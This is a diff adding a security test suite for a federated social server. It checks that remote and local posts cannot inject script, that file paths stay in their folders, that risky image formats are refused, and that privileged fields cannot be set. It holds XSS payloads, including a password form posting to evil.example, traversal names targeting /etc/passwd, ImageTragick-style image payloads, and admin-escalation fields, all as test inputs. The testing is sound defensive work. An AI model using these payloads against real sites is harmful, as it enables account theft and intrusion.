@@ -1,0 +1,325 @@
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { request } from "node:http";
+import path from "node:path";
+import { before, describe, test } from "node:test";
+import { forEachDatabase } from "../../packages/server/test/support/databases.ts";
+import type { PodPerson } from "../../packages/server/test/support/diaspora-pod.ts";
+import type { TestPerson } from "../../packages/server/test/support/kith-server.ts";
+import {
+  pictureForm,
+  storedFiles,
+} from "../../packages/server/test/support/pictures.ts";
+import { plan } from "../../packages/server/test/support/planning.ts";
+import { podPost } from "../../packages/server/test/support/pod-entities.ts";
+import { idOf } from "../../packages/server/test/support/proving-actor.ts";
+import type { RemoteActor } from "../../packages/server/test/support/remote-server.ts";
+import { fillPath, listRoutes } from "../../packages/server/test/support/routes.ts";
+import { befriend } from "../../packages/server/test/support/several-servers.ts";
+import type { PostRecord } from "../../packages/server/test/support/wire.ts";
+import { listProjectFiles, root } from "../../scripts/project-files.ts";
+import { create, useCaseTown } from "./case-town.ts";
+
+/** Each would run or ask for something in a browser that took it for markup. */
+const HOSTILE = [
+  "<script>hostile(1)</script>",
+  '"><img src=x onerror=hostile(1)>',
+  "'><svg onload=hostile(1)>",
+  "<form action=https://evil.example/><input name=password></form>",
+  "<iframe srcdoc='<script>hostile(1)</script>'></iframe>",
+  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hostile(1)&gt;\">",
+  "<noscript><p title=\"</noscript><img src=x onerror=hostile(1)>\">",
+  "<a href=\"javascript:hostile(1)\">x</a>",
+  "[x](javascript:hostile(1))",
+  "![x](x \"onerror=hostile(1)\")",
+  "<b onmouseover=hostile(1)>x</b>",
+  "<base href=https://evil.example/><style>@import '//evil.example'</style>",
+  "</title><script>hostile(1)</script>",
+  "</textarea><script>hostile(1)</script>",
+  "\u202e<script>hostile(1)</script>",
+] as const;
+
+/** What a page of ours never has, whoever wrote what is on it. */
+function assertHarmless(html: string, what: string): void {
+  const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
+  for (const tag of tags) {
+    assert.doesNotMatch(tag, /^<(script|iframe|svg|math|style|base|object|embed)\b/i, what);
+    const bare = tag.replace(/"[^"]*"/g, '""');
+    assert.doesNotMatch(bare, /\son[a-z]+\s*=/i, `${what} ${tag}`);
+    assert.doesNotMatch(tag, /(href|src|action)\s*=\s*["']?\s*javascript:/i, what);
+    assert.doesNotMatch(tag, /(href|src|action)\s*=\s*["']?(https?:)?\/\/evil\.example/i, what);
+  }
+}
+
+forEachDatabase((kind) => {
+  const town = useCaseTown(kind);
+  const { kith, ann, evilPod, mallory, followed } = town;
+  let eve: RemoteActor;
+  let bob: PodPerson;
+  before(async () => {
+    eve = await followed(mallory());
+    bob = evilPod().person("bob");
+    await befriend(ann(), bob.handle);
+    await kith().settle();
+  });
+
+  /** A page as everybody gets it, with its policy. */
+  async function page(at: string, what: string): Promise<string> {
+    const headers = { accept: "text/html" };
+    const response = await fetch(kith().baseUrl + at, { headers });
+    const text = await response.text();
+    assert.equal(response.status, 200, `${at} ${text.slice(0, 200)}`);
+    const policy = response.headers.get("content-security-policy") ?? "";
+    assert.match(policy, /default-src 'none'/);
+    assert.doesNotMatch(policy, /script-src[^;]*unsafe|unsafe-eval/);
+    assert.equal(response.headers.get("x-content-type-options"), "nosniff");
+    assertHarmless(text, what);
+    return text;
+  }
+
+  test("case 50: what a post from elsewhere brings does not run on its page, over either protocol", async () => {
+    for (const hostile of HOSTILE) {
+      const note = eve.note({
+        content: `<p>before</p>${hostile}<p>after</p>`,
+        summary: hostile,
+        name: hostile,
+        location: { type: "Place", name: hostile, latitude: 1, longitude: 1 },
+        tag: [{ type: "Hashtag", name: `#${hostile}`, href: hostile }],
+        attachment: [{ type: "Image", mediaType: "image/png", url: "https://a.example/x.png", name: hostile }],
+      });
+      await eve.tell(kith(), create(eve, note));
+      const post = podPost(bob, {
+        text: `before ${hostile} after`,
+        providerDisplayName: hostile.slice(0, 60),
+        location: { type: "location", address: hostile, lat: "1", lng: "1" },
+      });
+      await bob.tell(kith(), post);
+      const { posts } = kith().server.features;
+      const stored = await posts.find({ uri: idOf(note) });
+      assert.ok(stored && (await posts.find({ guid: post.guid })), hostile);
+      for (const guid of [stored.guid, post.guid]) {
+        const text = await page(`/posts/${guid}`, hostile);
+        assert.match(text, /after/);
+      }
+    }
+  });
+
+  test("case 51: what people here write anywhere is shown as text, or as markdown without HTML", async () => {
+    const cat = await kith().person();
+    for (const hostile of HOSTILE) {
+      await cat.put("/profile", {
+        FirstName: hostile.replaceAll(";", "").slice(0, 32),
+        Bio: hostile,
+        Location: hostile,
+      });
+      const json = {
+        post: `x ${hostile}`,
+        poll_question: hostile,
+        poll_answer: [`1 ${hostile}`, `2 ${hostile}`],
+        location_address: hostile,
+        location_lat: "1",
+        location_lng: "1",
+      };
+      const answer = await cat.call("POST", "/posts", { json });
+      assert.equal(answer.status, 200, answer.text);
+      const { Guid, ID } = JSON.parse(answer.text) as PostRecord;
+      await cat.post(`/posts/${ID}/comments`, { comment: hostile });
+      await page(`/posts/${Guid}`, hostile);
+      await plan(cat, {
+        summary: hostile,
+        description: hostile,
+        location: hostile,
+      });
+      const [announced] = await cat.get<PostRecord[]>("/posts");
+      await page(`/posts/${announced?.Guid}`, hostile);
+      await page(`/u/${cat.username}`, hostile);
+    }
+  });
+
+  test("case 53: no name of a file leads out of its folder", async () => {
+    const names = [
+      "../kith.sqlite",
+      "..%2fkith.sqlite",
+      "..%5ckith.sqlite",
+      "%2e%2e%2fkith.sqlite",
+      "..%252fkith.sqlite",
+      "....//kith.sqlite",
+      "%2fetc%2fpasswd",
+      "/etc/passwd",
+      "..%00.png",
+      "thumb_..%2f..%2fkith.sqlite",
+      "%c0%ae%c0%ae%c0%afkith.sqlite",
+      ".",
+      "..",
+      "%2e%2e",
+      "",
+      "CON",
+      "a".repeat(5000),
+    ];
+    const folders = ["/media/", "/uploads/x/", "/assets/"];
+    for (const folder of folders)
+      for (const name of names) {
+        const { status, text } = await raw(folder + name);
+        assert.ok(status >= 300 && status < 500, `${folder}${name} ${status}`);
+        assert.doesNotMatch(text, /SQLite format|root:/);
+      }
+  });
+
+  /** Asks for a path as it is: nothing tidies it up. */
+  function raw(at: string): Promise<{ status: number; text: string }> {
+    const { hostname, port } = new URL(kith().baseUrl);
+    return new Promise((done, fail) => {
+      request({ hostname, port, path: at }, (response) => {
+        let text = "";
+        response.setEncoding("latin1");
+        response.on("data", (chunk: string) => (text += chunk));
+        response.on("end", () =>
+          done({ status: response.statusCode ?? 0, text }),
+        );
+      })
+        .on("error", fail)
+        .end();
+    });
+  }
+
+  test("case 54: of all kinds of pictures those alone are decoded that are shown", async () => {
+    const before = await storedFiles(kith());
+    const texts = {
+      SVG: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
+      MVG: "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://evil.example/x'\npop graphic-context\n",
+      MSL: '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
+      EPS: "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
+      PDF: "%PDF-1.7\n1 0 obj\n",
+      BMP: "BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00",
+      ICO: "\x00\x00\x01\x00\x01\x00\x10\x10",
+      PNM: "P6\n1 1\n255\nabc",
+      FITS: "SIMPLE  =                    T",
+      HDR: "#?RADIANCE\n",
+      EXR: "\x76\x2f\x31\x01\x02\x00\x00\x00",
+      JP2: "\x00\x00\x00\x0cjP  \r\n\x87\n",
+      JXL: "\xff\x0a\x00\x00",
+      XBM: "#define x_width 1\n#define x_height 1\n",
+      "a path": "@/etc/passwd",
+      "a protocol": "https://evil.example/x.png",
+    };
+    for (const [what, text] of Object.entries(texts))
+      for (const type of ["image/png", "image/svg+xml"]) {
+        const bytes = Buffer.from(text, "latin1");
+        const multipart = pictureForm(bytes, {}, { type, fileName: "x.png" });
+        const { status } = await ann().call("POST", "/photos", { multipart });
+        assert.ok(status === 415 || status === 400, `${what} ${status}`);
+      }
+    assert.deepEqual(await storedFiles(kith()), before);
+  });
+
+  describe("case 58: fields that nobody may set", () => {
+    const EXTRA = {
+      id: 1,
+      ID: 1,
+      user_id: 1,
+      userId: 1,
+      UserID: 1,
+      person_id: 1,
+      PersonID: 1,
+      is_admin: true,
+      isAdmin: true,
+      admin: true,
+      role: "admin",
+      state: "active",
+      username: "taken",
+      password_hash: "x",
+      encrypted_password: "x",
+      otp_secret: "x",
+      otp_required_for_login: false,
+      rsa_private_pem: "x",
+      public_key_pem: "x",
+      Author: "ann@localhost",
+      handle: "ann@localhost",
+      guid: "f".repeat(32),
+      Guid: "f".repeat(32),
+      uri: "https://evil.example/1",
+      created_at: "2001-01-01T00:00:00Z",
+      CreatedAt: "2001-01-01T00:00:00Z",
+      LikesCount: 1000,
+      token: "x",
+      expires_at: "2999-01-01T00:00:00Z",
+      __proto__x: { admin: true },
+      constructor: { prototype: { admin: true } },
+    };
+
+    test("case 58: whatever is sent along with any call, it has no effect", async () => {
+      const cat = await kith().person();
+      const before = await accountOf(cat);
+      const others = await everybodyBut(cat);
+      const routes = listRoutes(kith().app).filter(
+        ({ method, path: at }) =>
+          method !== "GET" &&
+          at.startsWith("/api/v0/") &&
+          !/\*|\/ap\/|\/users$|\/self\/move|\/password$/.test(at),
+      );
+      assert.ok(routes.length > 40, String(routes.length));
+      const wanted = { name: "n", post: "p", comment: "c", tags: "t", Bio: "b", summary: "s", start: "2026-03-10T09:00:00Z" };
+      for (const { method, path: at } of routes) {
+        const called = fillPath(at.replace("/api/v0", ""), { tag: "x" });
+        const json = { ...EXTRA, ...wanted };
+        const { status } = await cat.call(method, called, { json });
+        assert.ok(status < 500, `${method} ${at} ${status}`);
+      }
+      assert.deepEqual(await accountOf(cat), before);
+      assert.deepEqual(await everybodyBut(cat), others);
+      const mine = await cat.get<PostRecord[]>("/posts", { limit: 100 });
+      for (const { Guid, CreatedAt, LikesCount } of mine) {
+        assert.notEqual(Guid, EXTRA.Guid);
+        assert.doesNotMatch(CreatedAt, /^2001/);
+        assert.ok(LikesCount < 1000);
+      }
+    });
+
+    test("case 58: nor with a sign-up or a request for a token", async () => {
+      const form = { username: "climber", password: "correct horse", confirm: "correct horse" };
+      const extra = Object.fromEntries(
+        Object.entries(EXTRA)
+          .filter(([name]) => name !== "username")
+          .map(([name, value]) => [name, String(value)]),
+      );
+      const response = await fetch(`${kith().baseUrl}/users/sign_up`, {
+        method: "POST",
+        body: new URLSearchParams({ ...extra, ...form }),
+        redirect: "manual",
+      });
+      assert.equal(response.status, 302);
+      const row = await kith()
+        .db.read.selectFrom("users")
+        .selectAll()
+        .where("username", "=", "climber")
+        .executeTakeFirstOrThrow();
+      const { created_at, ...rest } = row;
+      assert.doesNotMatch(created_at, /^2001/);
+      assert.ok(!Object.values(rest).includes("admin"), JSON.stringify(rest));
+      assert.ok(row.id > 1);
+    });
+
+    const users = () => kith().db.read.selectFrom("users").selectAll().orderBy("id");
+    async function accountOf({ record }: TestPerson) {
+      const row = await users().where("id", "=", record.UserID ?? 0).executeTakeFirstOrThrow();
+      const { last_seen_at: _, updated_at: __, locale: ___, time_zone: ____, ...account } = row;
+      const keys = await kith().db.read.selectFrom("user_keys").selectAll().where("user_id", "=", row.id).execute();
+      return { account, keys };
+    }
+    async function everybodyBut({ record }: TestPerson) {
+      const rows = await users().where("id", "!=", record.UserID ?? 0).execute();
+      const people = await kith().db.read.selectFrom("people").selectAll().where("id", "!=", record.ID).orderBy("id").execute();
+      return { rows, people };
+    }
+  });
+});
+
+test("case 59: no text of anybody's becomes part of a statement", () => {
+  const src = "packages/server/src/";
+  const raw = listProjectFiles([src])
+    .filter((file) => file.endsWith(".ts") && !/\.(test|fixture)\.ts$/.test(file))
+    .filter((file) => /\bsql\.(raw|lit)\b/.test(readFileSync(path.join(root, file), "utf8")));
+  // What is put in there are names of ours: of columns, types, settings, and statements of migrations.
+  const known = ["features/moves/move-store.ts", "db/dialect.ts", "db/migrate.ts", "db/examine-database.ts"];
+  assert.deepEqual(raw.sort(), known.map((file) => src + file).sort(), "a value belongs into a parameter");
+});
